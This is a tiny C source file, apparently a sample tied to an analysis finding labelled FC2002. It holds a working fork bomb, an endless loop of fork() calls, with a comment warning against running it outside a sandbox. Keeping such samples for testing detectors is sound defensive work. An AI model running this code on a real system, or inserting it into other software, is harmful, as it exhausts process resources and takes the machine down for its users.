/* The fork bomb: every process makes a new one for ever. Do not run it outside a sandbox.
 *
 * Finding: FC2002
 */
#include <unistd.h>

int main(void)
{
    while (1)
        fork();
}
